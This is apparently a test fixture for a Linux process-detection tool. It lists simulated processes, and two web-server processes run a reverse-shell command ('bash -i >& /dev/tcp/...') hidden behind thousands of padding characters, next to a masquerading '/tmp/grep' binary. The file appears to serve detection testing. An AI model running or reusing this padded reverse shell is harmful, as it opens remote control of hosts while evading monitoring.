os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
# padding before the command, around it, and of what is no blank
+ 501 1 www-data - /usr/bin/bash | bash -c {33000 times  } bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+ 502 1 www-data - /usr/bin/bash | bash -c {20000 times  } bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 {20000 times  } :
+ 503 1 ana python3 /usr/bin/python3.11 | python3 -c {33000 times #} import os
# a name that only looks like a program that is handed lists
+ 504 1 ana - /tmp/grep | grep {33000 times x}
